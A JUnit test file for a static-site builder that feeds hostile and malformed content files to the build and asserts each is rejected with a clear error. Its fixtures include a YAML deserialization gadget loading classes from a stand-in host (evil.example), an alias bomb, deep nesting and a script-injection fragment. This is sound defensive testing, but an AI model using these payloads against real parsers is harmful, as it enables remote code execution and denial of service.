package org.decisionguide.security;

import org.decisionguide.Fixtures;
import org.decisionguide.cli.Main;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile or broken files never crash the build and never hang: each gives one clear message with the file (and
 * line), a non-zero exit within seconds, and no stack trace.
 */
class BadInputTest {
    @TempDir
    Path dir;

    record Case(String name, String file, byte[] bytes, String expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static final String FM = "---\ntitle: T\ndate: 2026-11-25\nreviewed: 2026-11-25\nsummary: S.\nverdict: V.\nsource:\n  title: X\n  url: https://example.org/\n";

    static Stream<Case> cases() {
        String deep = "x: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n";
        String bomb = "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
                + "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n";
        return Stream.of(
                new Case("20 MB value", "glossary/big.yaml", utf8("id: big\nen:\n  term: big\n  definition: \"" + "a".repeat(20_000_000) + "\"\n"),
                        "glossary/big.yaml: the file is too large"),
                new Case("10,000 levels of nesting", "glossary/deep.yaml", utf8(deep), "glossary/deep.yaml:1: the YAML is nested more than 40 levels deep"),
                new Case("alias bomb", "glossary/bomb.yaml", utf8(bomb), "glossary/bomb.yaml:1: YAML anchors (&a) are not allowed"),
                new Case("ScriptEngineManager tag", "content/en/articles/tag.md",
                        utf8(FM + "terms: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n---\nBody\n"),
                        "content/en/articles/tag.md:10: front matter: YAML tags (!!javax.script.ScriptEngineManager) are not allowed"),
                new Case("invalid UTF-8", "content/en/articles/latin1.md", new byte[]{'-', '-', '-', '\n', 't', 'i', 't', 'l', 'e', ':', ' ', (byte) 0xE9, '\n'},
                        "content/en/articles/latin1.md: the file is not valid UTF-8"),
                new Case("NUL byte", "content/en/articles/nul.md", utf8(FM + "tags: [a\u0000b]\n---\nBody\n"),
                        "content/en/articles/nul.md:10: front matter: the file contains a NUL character"),
                new Case("empty file", "content/en/articles/empty.md", new byte[0], "content/en/articles/empty.md:1: the file does not start with front matter"),
                new Case("tabs in indentation", "content/en/articles/tabs.md", utf8("---\ntitle: T\nsource:\n\ttitle: X\n---\nBody\n"),
                        "content/en/articles/tabs.md:4: front matter: invalid YAML"),
                new Case("duplicate keys", "glossary/dup.yaml", utf8("id: dup\nid: dup\n"), "glossary/dup.yaml:2: duplicate key \"id\""),
                new Case("number where text is expected", "content/en/articles/number.md", utf8(FM.replace("summary: S.", "summary: 42") + "---\nBody\n"),
                        "content/en/articles/number.md:5: \"summary\" must be text, not a number (42)"),
                new Case("external image", "content/en/articles/tracker.md", utf8(FM + "---\n![pixel](https://tracker.example/p.gif)\n"),
                        "content/en/articles/tracker.md:11: image \"https://tracker.example/p.gif\" would be loaded from another site"),
                new Case("malformed source address", "content/en/articles/badurl.md",
                        utf8(FM.replace("https://example.org/", "https://example.org/?q=\"><script>") + "---\nBody\n"),
                        "content/en/articles/badurl.md:9: source url is not a valid address"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void failsFastWithFileLineAndFix(Case c) throws Exception {
        Path site = Fixtures.copyOfRealSite(dir);
        Path file = site.resolve(c.file());
        Files.createDirectories(file.getParent());
        Files.write(file, c.bytes());
        PrintStream oldErr = System.err, oldOut = System.out;
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        long t0 = System.nanoTime();
        int exit;
        try {
            System.setErr(new PrintStream(err, true, StandardCharsets.UTF_8));
            System.setOut(new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
            exit = Main.run("build", "--root", site.toString());
        } finally {
            System.setErr(oldErr);
            System.setOut(oldOut);
        }
        long ms = (System.nanoTime() - t0) / 1_000_000;
        String out = err.toString(StandardCharsets.UTF_8);
        assertEquals(1, exit, out);
        assertTrue(out.lines().anyMatch(l -> l.startsWith(c.expected()) && l.contains(" — ")), c.name() + ":\n" + out);
        assertFalse(out.contains("Exception") || out.contains("\tat "), out);
        assertTrue(ms < 15_000, c.name() + " took " + ms + " ms");
    }
}
